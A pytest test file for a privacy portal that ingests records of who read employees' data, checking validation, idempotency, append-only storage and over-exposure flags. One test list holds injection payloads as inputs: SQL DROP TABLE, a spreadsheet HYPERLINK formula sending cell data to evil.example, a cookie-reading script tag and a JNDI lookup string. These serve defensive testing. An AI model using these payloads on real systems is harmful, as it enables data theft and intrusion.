"""Access events: ingest validation, all or nothing, idempotency, self-logging, append-only, flags."""

from __future__ import annotations

import json
import os
import secrets
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa

from portal.audit import my_access
from portal.audit import access_events
from portal.core import catalog, db
from portal import cli
from portal.core.line_input import IngestRejected
from portal.identity.principal import Employee, Principal
from portal.identity.policy import EMPLOYEE, PRIVACY_OFFICE

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
TRANSCRIPTS = "user.content.private.meeting_transcript"
CHAT = "user.content.private.chat"
KEYSTROKES = "user.behavior.keystrokes"
PERFORMANCE = "user.workplace.performance"
PG_URL = os.environ.get("PORTAL_TEST_POSTGRES_URL", "postgresql+psycopg://postgres@127.0.0.1:5432/test")

# E00001 alice, E00002 bob, E00003 priya (privacy office), then colleagues E00010.. as readers.
PEOPLE = [("E00001", "alice", "alice@example.com", "Alice Lindqvist", "Payments Platform"),
          ("E00002", "bob", "bob@example.com", "Bob Okafor", "Enterprise Accounts"),
          ("E00003", "priya", "priya@example.com", "Priya Raman", "Privacy Office")]
PEOPLE += [(f"E{i:05d}", f"user{i}", f"user{i}@example.com", f"Colleague {i}", "Platform") for i in range(10, 40)]


def add_company(engine: sa.Engine) -> None:
    db.migrate(engine)
    with engine.begin() as conn:
        catalog.sync(conn)
        conn.execute(sa.insert(db.employees), [
            {"employee_id": e, "oidc_sub": sub, "email": mail, "display_name": name, "department": "Engineering",
             "team": team, "job_title": "Engineer", "hired_on": date(2020, 1, 1)} for e, sub, mail, name, team in PEOPLE])


def sqlite_engine(tmp_path) -> sa.Engine:
    engine = db.make_engine(f"sqlite:///{tmp_path / 'portal.db'}")
    add_company(engine)
    return engine


def postgres_engine() -> tuple[sa.Engine, str]:
    """An engine on a fresh schema of the test PostgreSQL; skips (fails under CI=true) when unreachable."""
    admin = sa.create_engine(PG_URL)
    schema = f"t_{secrets.token_hex(6)}"
    try:
        with admin.begin() as conn:
            conn.execute(sa.text(f"CREATE SCHEMA {schema}"))
    except sa.exc.OperationalError as exc:
        admin.dispose()
        if os.environ.get("CI") == "true":
            pytest.fail(f"PostgreSQL at {PG_URL} is unreachable under CI: {exc.orig}")
        pytest.skip(f"PostgreSQL at {PG_URL} is unreachable")
    admin.dispose()
    # A session time zone far from UTC: a naive timestamp anywhere would be stored shifted and fail the tests.
    engine = sa.create_engine(PG_URL, connect_args={"options": f"-csearch_path={schema} -ctimezone=Pacific/Chatham"})
    add_company(engine)
    return engine, schema


def drop_schema(engine: sa.Engine, schema: str) -> None:
    engine.dispose()
    admin = sa.create_engine(PG_URL)
    with admin.begin() as conn:
        conn.execute(sa.text(f"DROP SCHEMA {schema} CASCADE"))
    admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def engine(request, tmp_path):
    """The metadata DB with a small company, on SQLite and on a fresh PostgreSQL schema."""
    if request.param == "sqlite":
        engine = sqlite_engine(tmp_path)
        yield engine
        engine.dispose()
    else:
        engine, schema = postgres_engine()
        yield engine
        drop_schema(engine, schema)


@pytest.fixture
def lite(tmp_path):
    """SQLite only, for checks of validation logic that does not depend on the database."""
    engine = sqlite_engine(tmp_path)
    yield engine
    engine.dispose()


def event(n: int = 1, **changes) -> dict:
    base = {"event_id": f"ev-{n}", "time": "2026-11-19T10:00:00Z",
            "actor": {"id": "svc:siem", "kind": "service", "name": "Security SIEM", "team": "Security Operations",
                      "role": "security-operations"},
            "subject": "E00001", "category": KEYSTROKES, "action": "query", "purpose": "essential.service.security",
            "justification": "SEC-1", "source_system": "Splunk", "record_count": 5, "query_id": f"q-{n}"}
    base.update(changes)
    return base


def lines(*events: dict) -> list[str]:
    return [json.dumps(e) for e in events]


def ingest(engine, source, **kw):
    return access_events.ingest_access(engine, source, now=NOW, **kw)


def count(engine, table: sa.Table) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()


def principal(employee_id: str, roles=(EMPLOYEE,)) -> Principal:
    emp, sub, mail, name, team = next(p for p in PEOPLE if p[0] == employee_id)
    return Principal(subject=sub, email=mail, name=name, roles=frozenset(roles),
                     employee=Employee(emp, name, mail, "Engineering", team, "Engineer", sub))


def person_reader(n: int, role: str = "engineer") -> dict:
    emp = f"E{n:05d}"
    return {"id": f"usr-{n}", "kind": "person", "name": f"Colleague {n}", "team": "Platform", "role": role,
            "employee": emp}


# ---- a good file ----------------------------------------------------------------


def test_a_valid_file_is_ingested_and_stores_subjects_only_as_pseudonyms(engine, tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(lines(event(1), event(2, subject="bob@example.com"), event(3, subject="alice"))) + "\n")
    report = ingest(engine, path)
    assert (report.lines, report.added, report.already_present, report.actors_added) == (3, 3, 0, 1)
    with engine.connect() as conn:
        stored = [tuple(str(v) for v in r) for r in conn.execute(sa.select(db.access_events))]
        pseudonyms = dict(conn.execute(sa.select(db.pseudonyms.c.employee_id, db.pseudonyms.c.pseudonym)).all())
    text = repr(stored)
    for identifier in ("E00001", "E00002", "alice@example.com", "bob@example.com", "Alice", "'alice'"):
        assert identifier not in text
    assert {r[4] for r in stored} == {pseudonyms["E00001"], pseudonyms["E00002"]}


def test_an_employee_id_an_email_and_an_oidc_subject_resolve_to_the_same_pseudonym(lite):
    ingest(lite, lines(event(1, subject="E00001"), event(2, subject="ALICE@example.com"), event(3, subject="alice")))
    with lite.connect() as conn:
        assert len(set(conn.execute(sa.select(db.access_events.c.subject_pseudonym)).scalars())) == 1


def test_blank_lines_and_a_byte_order_mark_are_accepted(lite, tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(event(1)).encode() + b"\r\n\r\n   \n" + json.dumps(event(2)).encode())
    assert ingest(lite, path).added == 2


# ---- every kind of bad line -------------------------------------------------------


def _nul(e: dict) -> dict:
    return {**e, "justification": "ok\x00no"}


BAD_LINES = [
    # (case, the second line's text, field named, words in the message)
    ("not JSON", '{"event_id": "ev-2", ', None, "is not JSON"),
    ("a JSON list", "[1, 2]", None, "must be a JSON object"),
    ("missing field", json.dumps({k: v for k, v in event(2).items() if k != "record_count"}), "record_count",
     "is missing"),
    ("null required field", json.dumps(event(2, source_system=None)), "source_system", "must not be null"),
    ("unknown subject", json.dumps(event(2, subject="mallory@example.com")), "subject", "not an employee id"),
    ("unknown category", json.dumps(event(2, category="user.biometrics.face")), "category", "not a catalog category"),
    ("unknown purpose", json.dumps(event(2, purpose="curiosity")), "purpose", "not a registered purpose"),
    ("bad timestamp", json.dumps(event(2, time="yesterday at noon")), "time", "not an ISO 8601 timestamp"),
    ("timestamp without zone", json.dumps(event(2, time="2026-11-19T10:00:00")), "time", "no time zone"),
    ("time in the future", json.dumps(event(2, time="2026-12-24T18:00:00+01:00")), "time", "in the future"),
    ("bad action", json.dumps(event(2, action="steal")), "action", "is not one of view, query, export"),
    ("bad actor kind", json.dumps(event(2, actor={**event()["actor"], "kind": "robot"})), "actor.kind",
     "is not one of person, service"),
    ("actor missing", json.dumps({k: v for k, v in event(2).items() if k != "actor"}), "actor", "is missing"),
    ("actor not an object", json.dumps(event(2, actor="svc:siem")), "actor", "must be an object"),
    ("negative record count", json.dumps(event(2, record_count=-3)), "record_count", "must not be negative"),
    ("record count as text", json.dumps(event(2, record_count="12")), "record_count", "must be a whole number"),
    ("record count as true", json.dumps(event(2, record_count=True)), "record_count", "must be a whole number"),
    ("huge record count", json.dumps(event(2, record_count=2**40)), "record_count", "larger than the limit"),
    ("event id too long", json.dumps(event(2, event_id="x" * 65)), "event_id", "more than the limit of 64"),
    ("empty event id", json.dumps(event(2, event_id="  ")), "event_id", "must not be empty"),
    ("NUL character", json.dumps(_nul(event(2))), "justification", "NUL character"),
    ("misspelt field", json.dumps({**event(2), "purpose_code": "x"}), "purpose_code", "is not a known field"),
    ("category as a list", json.dumps(event(2, category=[KEYSTROKES])), "category", "must be a string"),
]


@pytest.mark.parametrize(("case", "text", "field", "words"), BAD_LINES, ids=[c[0] for c in BAD_LINES])
def test_each_kind_of_bad_line_is_named_with_its_line_and_field(lite, case, text, field, words):
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, [json.dumps(event(1)), text, json.dumps(event(3))])
    problems = caught.value.problems
    assert len(problems) == 1, problems
    assert (problems[0].line, problems[0].field) == (2, field)
    assert words in problems[0].message
    assert "line 2" in str(caught.value) and "nothing was written" in str(caught.value)
    assert count(lite, db.access_events) == 0


def test_an_oversized_line_is_refused_without_parsing_it(lite, tmp_path):
    path = tmp_path / "events.jsonl"
    huge = json.dumps(event(2, justification="x" * 3000))
    path.write_text("\n".join([json.dumps(event(1)), huge, json.dumps(event(3))]) + "\n")
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, path, max_line_bytes=1024)
    assert [(p.line, p.field) for p in caught.value.problems] == [(2, None)]
    assert "longer than the limit of 1,024 bytes" in caught.value.problems[0].message


def test_invalid_utf8_is_named_with_its_line(lite, tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_bytes(json.dumps(event(1)).encode() + b"\n" + b'{"event_id": "\xff\xfe"}\n')
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, path)
    assert caught.value.problems[0].line == 2 and "not valid UTF-8" in caught.value.problems[0].message


def test_an_oversized_file_is_refused_before_it_is_read(lite, tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(lines(*(event(i) for i in range(50)))))
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, path, max_file_bytes=1000)
    assert "more than the limit of 1,000 bytes" in str(caught.value)
    assert count(lite, db.access_events) == 0


def test_a_missing_file_is_named(lite, tmp_path):
    with pytest.raises(IngestRejected, match="cannot read"):
        ingest(lite, tmp_path / "nope.jsonl")


def test_every_problem_is_reported_not_only_the_first(lite):
    bad = event(2, subject="nobody", category="nope", record_count=-1)
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, lines(event(1), bad, event(3, action="peek")) + ["not json"])
    found = [(p.line, p.field) for p in caught.value.problems]
    assert found == [(2, "subject"), (2, "category"), (2, "record_count"), (3, "action"), (4, None)]


def test_reporting_stops_at_the_problem_limit_and_says_there_may_be_more(lite):
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, ["oops"] * 30, max_problems=5)
    assert len(caught.value.problems) == 5 and caught.value.truncated
    assert "there may be more" in str(caught.value)


# ---- all or nothing and idempotency ---------------------------------------------------


def test_a_file_with_one_bad_line_changes_nothing_at_all(engine):
    before = {t.name: count(engine, t) for t in (db.access_events, db.actors, db.pseudonyms)}
    good = [event(i, actor=person_reader(10 + i % 30), subject=f"E{10 + (i + 1) % 30:05d}") for i in range(1, 7000)]
    with pytest.raises(IngestRejected) as caught:
        ingest(engine, lines(*good, event(9999, category="nope")))
    assert caught.value.problems[0].line == 7000
    after = {t.name: count(engine, t) for t in (db.access_events, db.actors, db.pseudonyms)}
    assert after == before  # no events, no new actors, no new pseudonyms


def test_ingesting_the_same_events_again_adds_nothing(engine):
    batch = lines(*(event(i) for i in range(1, 12)))
    first = ingest(engine, batch)
    again = ingest(engine, batch)
    assert (first.added, again.added, again.already_present, again.actors_added) == (11, 0, 11, 0)
    assert count(engine, db.access_events) == 11


def test_an_event_repeated_within_one_file_is_added_once(lite):
    report = ingest(lite, lines(event(1), event(2), event(1)))
    assert (report.added, report.already_present) == (2, 1)


def test_a_known_event_id_with_different_content_is_an_error_naming_the_line(engine):
    ingest(engine, lines(event(1), event(2)))
    with pytest.raises(IngestRejected) as caught:
        ingest(engine, lines(event(3), event(2, record_count=500)))
    problem = caught.value.problems[0]
    assert (problem.line, problem.field) == (2, "event_id")
    assert "already stored with different content" in problem.message
    assert count(engine, db.access_events) == 2


def test_one_event_id_with_two_contents_in_one_file_names_both_lines(lite):
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, lines(event(1), event(2), event(1, justification="changed")))
    assert caught.value.problems[0].line == 3 and "already given on line 1" in caught.value.problems[0].message


def test_an_actor_id_cannot_change_from_service_to_person(lite):
    ingest(lite, lines(event(1)))
    with pytest.raises(IngestRejected) as caught:
        ingest(lite, lines(event(2, actor={**event()["actor"], "kind": "person"})))
    assert caught.value.problems[0].field == "actor.kind" and "already known as a service" in str(caught.value)


# ---- hostile strings ------------------------------------------------------------------

HOSTILE = [
    "'); DROP TABLE access_events; --",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<script>alert(document.cookie)</script>",
    "**bold** [link](javascript:alert(1)) {{7*7}} ${jndi:ldap://x}",
    "\u202eevil\u202c ‮ 😀 \t\r\n tabs and newlines",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_strings_are_stored_verbatim_as_data(engine, text):
    ingest(engine, lines(event(1, justification=text, query_id=text[:100], source_system=text[:200],
                               actor={**event()["actor"], "id": text[:100], "name": text})))
    with engine.connect() as conn:
        row = conn.execute(sa.select(db.access_events)).one()
        actor = conn.execute(sa.select(db.actors)).one()
    assert (row.justification, row.query_id, row.source_system) == (text, text[:100], text[:200])
    assert (actor.actor_id, actor.display_name) == (text[:100], text)
    assert count(engine, db.access_events) == 1


# ---- the command line -----------------------------------------------------------------


def test_the_ingest_command_adds_events_and_reports_problems_with_a_non_zero_exit(lite, tmp_path, monkeypatch,
                                                                                 capsys):
    monkeypatch.setenv("PORTAL_DATABASE_URL", lite.url.render_as_string(hide_password=False))
    monkeypatch.setenv("PORTAL_DATA_DIR", str(tmp_path))
    good, bad = tmp_path / "good.jsonl", tmp_path / "bad.jsonl"
    recent = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    good.write_text("\n".join(lines(event(1, time=recent), event(2, time=recent))))
    bad.write_text("\n".join(lines(event(3, time=recent), event(4, time=recent, subject="nobody"))))
    assert cli.main(["ingest", "access", str(good)]) == 0
    out = capsys.readouterr().out
    assert "2 access event(s) added" in out and "Logged 2 new entries; signed log checkpoint over 2 entries" in out
    assert cli.main(["ingest", "access", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "line 2: subject" in err and "nothing was written" in err and "Traceback" not in err
    assert count(lite, db.access_events) == 2


# ---- the portal's own reads ----------------------------------------------------------------


def test_reading_your_own_data_is_not_logged_as_someone_elses_access(engine):
    alice = principal("E00001")
    assert access_events.record_read(engine, alice, "E00001", CHAT, "legal.compliance", "checking", 10) is None
    assert count(engine, db.access_events) == 0


def test_a_privacy_office_read_is_logged_and_the_person_sees_it_with_the_justification(engine):
    priya = principal("E00003", roles=(EMPLOYEE, PRIVACY_OFFICE))
    event_id = access_events.record_read(engine, priya, "E00001", CHAT, "legal.compliance", "Access request AR-7", 42)
    assert event_id is not None
    seen = my_access.events_about(engine, principal("E00001"))
    assert [(e.actor, e.actor_kind, e.actor_role, e.justification, e.record_count, e.flags) for e in seen] == [
        ("Priya Raman", "person", PRIVACY_OFFICE, "Access request AR-7", 42, ())]
    assert my_access.events_about(engine, principal("E00002")) == []  # bob sees nothing of alice's


@pytest.mark.parametrize(("kwargs", "words"), [
    ({"justification": "  "}, "justification is required"),
    ({"purpose_code": "curiosity"}, "not a registered purpose"),
    ({"category_key": "user.nope"}, "unknown telemetry category"),
    ({"record_count": -1}, "0 or more"),
    ({"action": "peek"}, "is not one of"),
    ({"subject_employee_id": "E99999"}, "no employee has"),
])
def test_a_read_record_with_bad_input_is_refused_and_nothing_is_written(lite, kwargs, words):
    args = {"subject_employee_id": "E00001", "category_key": CHAT, "purpose_code": "legal.compliance",
            "justification": "AR-7", "record_count": 3, "action": "view"} | kwargs
    with pytest.raises((ValueError, LookupError), match=words):
        access_events.record_read(lite, principal("E00003", roles=(PRIVACY_OFFICE,)), **args)
    assert count(lite, db.access_events) == 0 and count(lite, db.actors) == 0


# ---- append-only ------------------------------------------------------------------------


def test_the_database_refuses_to_update_or_delete_access_events(engine):
    ingest(engine, lines(event(1), event(2)))
    statements = [sa.update(db.access_events).values(record_count=0),
                  sa.delete(db.access_events).where(db.access_events.c.event_id == "ev-1")]
    if engine.dialect.name == "postgresql":
        statements.append(sa.text("TRUNCATE access_events"))
    for statement in statements:
        with pytest.raises(sa.exc.DBAPIError, match="append-only"), engine.begin() as conn:
            conn.execute(statement)
    with engine.connect() as conn:
        assert sorted(conn.execute(sa.select(db.access_events.c.record_count)).scalars()) == [5, 5]


# ---- flags ------------------------------------------------------------------------------


def _reads_of_others(readers: range, week_day: str, category: str = TRANSCRIPTS, role: str = "engineer") -> list[dict]:
    """One read per reader, each of a different colleague (never themself), in the week of ``week_day``."""
    return [event(f"{week_day}-{n}", time=f"{week_day}T09:{n % 60:02d}:00Z", category=category,
                  actor=person_reader(n, role),
                  subject=f"E{n + 1:05d}" if n + 1 < 40 else "E00010", purpose="essential.service.collaboration")
            for n in readers]


def test_reads_without_a_purpose_and_from_roles_the_policy_does_not_allow_are_flagged_in_words(lite):
    ingest(lite, lines(event(1, purpose=None),
                       event(2, category=TRANSCRIPTS, purpose="train_ai_system",
                             actor={**event()["actor"], "id": "svc:x", "role": "marketing"})))
    flags = {e.event_id: e.flags for e in my_access.events_about(lite, principal("E00001"))}
    assert flags["ev-1"] == ("No registered purpose was given for this read.",)
    assert flags["ev-2"] == ("The reader's role (marketing) is not one the policy allows to read meeting "
                             "transcription.",)


def test_person_reads_in_a_week_with_more_readers_than_the_category_allows_are_flagged(lite):
    limit = catalog.CATEGORY_BY_KEY[TRANSCRIPTS].max_principals
    # Week of Mon 2 Nov: limit + 1 colleagues read others' transcripts, one of them reads alice's.
    over = _reads_of_others(range(10, 10 + limit + 1), "2026-11-04")
    over.append(event(1, time="2026-11-05T10:00:00Z", category=TRANSCRIPTS, actor=person_reader(10),
                      purpose="essential.service.collaboration"))
    # Week of Mon 9 Nov: exactly the limit; alice's transcript read once more.
    at_limit = _reads_of_others(range(10, 10 + limit), "2026-11-11")
    at_limit.append(event(2, time="2026-11-12T10:00:00Z", category=TRANSCRIPTS, actor=person_reader(11),
                          purpose="essential.service.collaboration"))
    ingest(lite, lines(*over, *at_limit))
    flags = {e.event_id: e.flags for e in my_access.events_about(lite, principal("E00001"))}
    assert any(f.startswith(f"Part of an over-exposure episode: {limit + 1} different people read other people's "
                            "meeting transcription in the week of 02 Nov 2026") for f in flags["ev-1"])
    assert not any("over-exposure" in f for f in flags["ev-2"])


def test_people_reading_their_own_data_do_not_count_as_readers_of_other_peoples(lite):
    limit = catalog.CATEGORY_BY_KEY[TRANSCRIPTS].max_principals
    own = [event(2000 + n, time="2026-11-04T08:00:00Z", category=TRANSCRIPTS, actor=person_reader(n),
                 subject=f"E{n:05d}") for n in range(10, 10 + limit + 5)]
    ingest(lite, lines(*own, event(1, time="2026-11-04T09:00:00Z", category=TRANSCRIPTS,
                                   actor=person_reader(30, "ml-platform"), purpose="train_ai_system")))
    seen = my_access.events_about(lite, principal("E00001"))
    assert [e.flags for e in seen] == [()]


def test_services_are_never_part_of_an_over_exposure_episode(lite):
    limit = catalog.CATEGORY_BY_KEY[TRANSCRIPTS].max_principals
    ingest(lite, lines(*_reads_of_others(range(10, 10 + limit + 3), "2026-11-04"),
                       event(1, time="2026-11-04T11:00:00Z", category=TRANSCRIPTS,
                             actor={**event()["actor"], "role": "ml-platform"}, purpose="train_ai_system")))
    assert [e.flags for e in my_access.events_about(lite, principal("E00001"))] == [()]


def _performance_reads(pairs: list[tuple[int, str]], role: str, day: str = "2026-11-04") -> list[dict]:
    """Reads of performance records, one per (reader number, subject), in the week of ``day``."""
    return [event(f"perf-{n}-{subject}", time=f"{day}T10:{i % 60:02d}:00Z", category=PERFORMANCE,
                  actor=person_reader(n, role), subject=subject, action="view",
                  purpose="employment.performance_management") for i, (n, subject) in enumerate(pairs)]


def test_a_company_limit_decides_which_weeks_a_person_sees_as_over_exposure(lite):
    # Six HR business partners read colleagues' performance records in one week; one of them reads alice's.
    ingest(lite, lines(*_performance_reads([(n, f"E{n + 10:05d}") for n in range(10, 16)] + [(10, "E00001")],
                                           "hr-business-partners")))
    assert all(not e.flags for e in my_access.events_about(lite, principal("E00001")))
    [seen] = my_access.events_about(lite, principal("E00001"), max_principals={"performance": 5})
    assert seen.flag_labels == (my_access.OVER_EXPOSURE,)
    assert seen.flags[0].startswith("Part of an over-exposure episode: 6 different people read other people's "
                                    "performance records in the week of 02 Nov 2026, more than the 5")


def test_line_managers_reading_their_own_reports_are_not_counted_against_the_limit(lite):
    # Ten line managers, each reading one report (one of them alice), under a company limit of five.
    pairs = [(n, f"E{n + 10:05d}") for n in range(11, 20)] + [(10, "E00001")]
    ingest(lite, lines(*_performance_reads(pairs, "line-managers")))
    [seen] = my_access.events_about(lite, principal("E00001"), max_principals={"performance": 5})
    assert seen.flags == ()


def test_a_line_manager_reading_more_people_than_a_span_of_control_is_flagged_to_each_person(lite):
    span = catalog.category(PERFORMANCE).scoped_roles[0].people_per_reader
    pairs = [(10, f"E{n:05d}") for n in range(11, 11 + span)] + [(10, "E00001")]
    ingest(lite, lines(*_performance_reads(pairs, "line-managers")))
    [seen] = my_access.events_about(lite, principal("E00001"))
    assert seen.flag_labels == (my_access.OVER_EXPOSURE,)
    assert seen.flags == (f"Part of an over-exposure episode: this reader, in the role line-managers, read the "
                          f"performance records of {span + 1} different people in the week of 02 Nov 2026; the "
                          f"role may read only their direct reports, at most {span} people a week.",)


def test_more_line_managers_reading_one_person_than_the_role_allows_is_flagged(lite):
    allowed = catalog.category(PERFORMANCE).scoped_roles[0].readers_per_person
    ingest(lite, lines(*_performance_reads([(n, "E00001") for n in range(10, 10 + allowed)], "line-managers"),
                       *_performance_reads([(n, "E00002") for n in range(10, 11 + allowed)], "line-managers")))
    assert all(not e.flags for e in my_access.events_about(lite, principal("E00001")))
    seen = my_access.events_about(lite, principal("E00002"))
    assert len(seen) == allowed + 1
    assert all(e.flags == (f"Part of an over-exposure episode: {allowed + 1} different people in the role "
                           f"line-managers read your performance records in the week of 02 Nov 2026, more than "
                           f"the {allowed} the policy allows; the role may read only their direct reports.",)
               for e in seen)


def test_a_person_who_reads_their_own_data_does_not_appear_as_someone_else(lite):
    ingest(lite, lines(event(1, actor={**person_reader(1), "employee": "alice@example.com"})))
    assert my_access.events_about(lite, principal("E00001")) == []


def test_team_role_naming_hides_the_names_of_people_but_not_of_services(lite):
    ingest(lite, lines(event(1), event(2, actor=person_reader(14, "security-operations"))))
    shown = {e.event_id: e.actor for e in my_access.events_about(lite, principal("E00001"), naming="team_role")}
    assert shown == {"ev-1": "Security SIEM", "ev-2": "Someone in Platform (security-operations)"}
    names = {e.event_id: e.actor for e in my_access.events_about(lite, principal("E00001"), naming="names")}
    assert names["ev-2"] == "Colleague 14"


def test_the_summary_says_in_one_sentence_who_read_and_how_many_reads_lacked_a_purpose(lite):
    ingest(lite, lines(event(1, purpose=None), event(2), event(3, actor=person_reader(15, "security-operations")),
                       event(4, actor={**event()["actor"], "id": "svc:other", "name": "Other"}, purpose=None),
                       event(5, time="2026-01-02T10:00:00Z")))
    summary = my_access.summarize(my_access.events_about(lite, principal("E00001")), now=NOW)
    assert summary.sentence() == ("In the last 90 days, 2 services and 1 person read your data (4 reads); "
                                  "2 reads had no registered purpose.")
    assert my_access.summarize([], now=NOW).sentence() == "In the last 90 days, nobody but you read your data."


def test_another_persons_events_are_never_shown(lite):
    ingest(lite, lines(event(1, subject="E00002"), event(2, subject="E00001")))
    assert [e.event_id for e in my_access.events_about(lite, principal("E00001"))] == ["ev-2"]
    assert [e.event_id for e in my_access.events_about(lite, principal("E00002"))] == ["ev-1"]


def test_filters_narrow_by_category_reader_kind_purpose_and_days(lite):
    ingest(lite, lines(event(1), event(2, category=CHAT, purpose="legal.compliance",
                                       actor=person_reader(16, "compliance")),
                       event(3, time="2026-11-01T10:00:00Z")))
    events = my_access.events_about(lite, principal("E00001"))
    pick = lambda **kw: sorted(e.event_id for e in my_access.filter_events(events, **kw))  # noqa: E731
    assert pick(categories=["Chat messages"]) == ["ev-2"]
    assert pick(kinds=["service"]) == ["ev-1", "ev-3"]
    assert pick(purposes=["Legal compliance"]) == ["ev-2"]
    assert pick(period=(date(2026, 11, 1), date(2026, 11, 2))) == ["ev-3"]
    assert pick(period=(date(2026, 11, 19),)) == ["ev-1", "ev-2"]
    assert pick() == ["ev-1", "ev-2", "ev-3"]
